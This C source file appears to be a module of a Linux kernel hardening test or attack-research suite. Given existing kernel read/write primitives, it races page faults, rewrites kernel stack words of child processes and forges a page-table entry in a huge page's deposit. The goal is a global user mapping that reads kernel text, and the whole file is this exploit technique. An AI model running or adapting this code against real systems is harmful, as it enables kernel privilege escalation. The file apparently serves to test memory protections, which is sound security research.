// SPDX-License-Identifier: GPL-2.0-only
/*
 * No process gets an entry that all processes have. Of a table that is not linked yet this
 * is not asked if the entry leads to text, since the table may become the kernel's. Here
 * such an entry is written to the deposit of a huge page, and that table is linked by a
 * process.
 */
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "deposit.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define ROOM_PART	0x57	/* and the next one */
#define HELPER_CPU	1
#define TABLE_LOCK	40
#define PAUSE		2000
#define PATIENCE	250
#define STACK_WORDS	4096
#define TAKEN		0x39
#define GLOBAL		(1UL << 8)
#define WRITER_SLOT	77
#define LINKER_SLOT	3

static struct {
	volatile bool ready[2], go[2], done;
	volatile uint64_t pmd[2], pud[2], lock[2], entry, match;
} *shared;

static uint64_t words[STACK_WORDS];

static char *room(int who)
{
	return (char *)user_room(ROOM_PART + who) + 4 * PMD_SIZE;
}

/* A fault finds a special mapping's first page there, which is one of text. */
static bool make_special_at(uint64_t vma, volatile char *at, int slot)
{
	uint64_t first = find_word(vma, VMA_SIZE, (uintptr_t)at / PAGE_SIZE);

	return first && !kwrite64(first, -(PMD_SIZE / PAGE_SIZE + slot)) &&
	       make_special(vma, text_phys());
}

/* A fault where there is a table of PMDs, and none below. */
static void fault(int who)
{
	int slot = who ? LINKER_SLOT : WRITER_SLOT;
	volatile char *at = mmap(room(who) - PMD_SIZE, 3 * PMD_SIZE, PROT_READ | PROT_EXEC,
				 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	struct slot pmd, pud, pte;
	uint64_t vma;

	stay_on_cpu(HELPER_CPU);
	madvise((void *)at, 3 * PMD_SIZE, MADV_NOHUGEPAGE);
	(void)at[0];
	if (kwalk((uint64_t)room(who), LEVEL_PMD, 0, &pmd) ||
	    kwalk((uint64_t)room(who), LEVEL_PUD, 0, &pud))
		_exit(1);
	shared->pmd[who] = pmd.slot;
	shared->pud[who] = pud.slot;
	shared->lock[who] = page_of(pmd.slot) + TABLE_LOCK;
	vma = find_vma(at);
	if (!who)
		kwrite64(vma + VMA_PROT, kread64(vma + VMA_PROT) | GLOBAL);
	if (!who && !make_special_at(vma, at, slot))
		_exit(1);
	shared->ready[who] = true;
	while (!shared->go[who])
		usleep(PAUSE);
	(void)room(who)[slot * PAGE_SIZE];
	*(volatile char *)(room(who) + slot * PAGE_SIZE);
	if (who) {
		volatile uint64_t *page = (void *)(room(who) + WRITER_SLOT * PAGE_SIZE);
		uint64_t there;

		if (!kwalk((uint64_t)page, LEVEL_PTE, 0, &pte))
			shared->entry = pte.value;
		if (pte.value & PTE_PRESENT && !kread(text_address() & -PAGE_SIZE, &there, sizeof(there)))
			shared->match = *page == there ? 1 : 2;
	}
	shared->done = true;
	for (;;)
		pause();
}

static size_t read_stack(const struct task *task)
{
	size_t at;

	for (at = 0; at < task->stack_size; at += PAGE_SIZE)
		if (kread(task->stack + at, (char *)words + at, PAGE_SIZE))
			return 0;
	return task->stack_size / sizeof(*words);
}

/* Its fault: by which entry it finds the table. */
static bool change_place(const struct task *task, uint64_t place)
{
	size_t nr = read_stack(task), i;
	bool changed = false;

	for (i = 0; i + 1 < nr; i++) {
		if (words[i] != shared->pmd[0] || words[i + 1] != shared->pud[0])
			continue;
		kwrite64(task->stack + i * sizeof(*words), place);
		changed = true;
	}
	return changed;
}

static bool is_taken(uint64_t page)
{
	uint64_t base = memory_map_base();
	uint8_t frame = 0;

	if (page < base || (page - base) % STRUCT_PAGE || (page - base) / STRUCT_PAGE > 1UL << 20)
		return false;
	kread(frame_at((page - base) / STRUCT_PAGE), &frame, sizeof(frame));
	return frame == TAKEN;
}

/* Its new table. Returns the one that it was to be. */
static uint64_t change_table(const struct task *task, uint64_t page)
{
	size_t nr = read_stack(task), i;
	uint64_t old = 0;

	for (i = nr / 2; i < nr; i++) {
		if (!is_taken(words[i]))
			continue;
		old = words[i];
		kwrite64(task->stack + i * sizeof(*words), page);
	}
	return old;
}

static pid_t start(int who)
{
	pid_t pid = fork();

	if (!pid)
		fault(who);
	while (!shared->ready[who])
		if (waitpid(pid, NULL, WNOHANG))
			return 0;
	return pid;
}

enum outcome global_entry(void)
{
	uint64_t deposit, value = 0, new;
	struct kernel_page forged;
	struct task task;
	struct huge huge;
	struct slot slot;
	pid_t writer, linker;
	int i;

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stay_on_cpu(0);
	writer = start(0);
	linker = start(1);
	if (!writer || !linker || !make_huge(&huge) || !kernel_page(&forged))
		return broken("no processes or no huge page");
	deposit = (huge.deposit - memory_map_base()) / STRUCT_PAGE * PAGE_SIZE;
	kwrite64(forged.addr, deposit | PTE_TABLE);

	/* An entry in the deposit. */
	set_lock(shared->lock[0], true);
	shared->go[0] = true;
	usleep(100 * PAUSE);
	if (ktask(writer, &task) || !change_place(&task, forged.addr)) {
		set_lock(shared->lock[0], false);
		return broken("no fault waited");
	}
	kill(writer, SIGKILL);
	set_lock(shared->lock[0], false);
	usleep(50 * PAUSE);
	value = kread64(direct_map_base() + deposit + WRITER_SLOT * sizeof(value));
	if (!(value & GLOBAL))
		return lost("the entry of the deposit is 0x%lx", value);

	/* It is linked. */
	set_lock(shared->lock[1], true);
	shared->go[1] = true;
	usleep(100 * PAUSE);
	if (ktask(linker, &task))
		return broken("no task");
	new = change_table(&task, huge.deposit);
	set_lock(shared->lock[1], false);
	if (!new)
		return broken("no new table on the stack");
	kwrite64(huge.field, new);
	close_list(new);
	for (i = 0; i < PATIENCE && !shared->done; i++)
		usleep(PAUSE);
	if (!(shared->entry & GLOBAL) || kwalk(text_address(), LEAF, 0, &slot))
		return lost("the entry of the process is 0x%lx", shared->entry);
	return won("a process has entry 0x%lx, which is global, and reads %s by it", shared->entry,
		   shared->match == 1 ? "kernel text" : "nothing");
}
#else
enum outcome global_entry(void)
{
	return skipped("x86-64 only");
}
#endif
